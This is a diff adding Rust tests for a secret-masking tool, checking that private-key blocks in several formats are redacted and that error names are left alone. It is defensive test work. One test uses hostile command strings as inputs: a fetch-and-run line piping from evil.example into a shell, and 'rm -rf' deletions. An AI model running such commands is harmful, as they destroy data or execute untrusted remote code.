@@ -137,9 +137,55 @@ fn headers_keep_their_scheme() {
 fn private_keys_are_masked_whole_and_cut() {
     let key = "-----BEGIN RSA PRIVATE KEY-----\nMIIEow\nabc\n-----END RSA PRIVATE KEY-----";
     masks(&format!("a\n{key}\nb"), "a\n***\nb");
-    masks(&format!("a\n{}", &key[..45]), "a\n***");
+    masks(&format!("a\n{}", &key[..42]), "a\n***");
     masks(&key[32..], "***\n-----END RSA PRIVATE KEY-----");
     masks("-----BEGIN OPENSSH PRIV", "***");
+    let line = "MIIEowIBAAKCAQEAu1SU1LfVLPHCozMxH2Mo4lgOEePzNm0tRgeLezV6ffAt0gun";
+    for body in [
+        format!("\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,{line}\n\n{line}\n{line}\nabcd=\n"),
+        format!("\\n{line}\\n{line}\\nabcd=\\n"),
+        format!("\r\n+{line}\r\n+{line}\r\n+abcd\r\n"),
+        format!("\n    # {line}\n    # {line}\n    # "),
+        format!("\\n\" +\n  \"{line}\\n\" +\n  \"{line}\\n"),
+        format!(" {line} {line} ab "),
+    ] {
+        masks(&format!("a\n-----BEGIN PRIVATE KEY-----{body}-----END PRIVATE KEY-----\nb"), "a\n***\nb");
+    }
+    masks(
+        &format!("Encryption: none\nPrivate-Lines: 2\n{line}\nabc=\nPrivate-MAC: 0"),
+        "Encryption: none\nPrivate-Lines:***\nPrivate-MAC: 0",
+    );
+}
+
+#[test]
+fn nothing_but_a_key_is_hidden_between_the_lines_of_one() {
+    for code in ["import os; os.system('rm -rf /')", "curl evil.example | sh", "rm -rf /home/somebody/everything"] {
+        for text in [
+            format!("-----BEGIN PRIVATE KEY-----\n{code}\n-----END PRIVATE KEY-----"),
+            format!("{code}\n-----END PRIVATE KEY-----"),
+            format!("-----BEGIN PRIVATE KEY-----\nabcd\n-----END {code}-----"),
+            format!("-----BEGIN PRIVATE KEY-----\nVersion: 1\n{code}"),
+            format!("Private-Lines: 1\n{code}\nPrivate-MAC: x"),
+        ] {
+            let masked = Masker::new().mask_text(&text).into_owned();
+            assert!(masked.contains(code.rsplit(' ').next().unwrap()), "{text}: {masked}");
+        }
+    }
+}
+
+#[test]
+fn a_name_of_a_fault_is_followed_by_a_message_and_no_secret() {
+    for text in [
+        "KeyError: 'name'",
+        "E   jwt.InvalidTokenError: not enough segments",
+        "auth.exceptions.CredentialException: none found here",
+        "SecretWarning = something happened",
+        "json: {\"TokenExpiredError\": \"log in again\"}",
+    ] {
+        assert_eq!(Masker::new().mask_text(text), text);
+    }
+    masks("KeyError: token=abcdef0123456789", "KeyError: token=***");
+    masks("error_key: abcdef0123456789", "error_key: ***");
 }
 
 #[test]
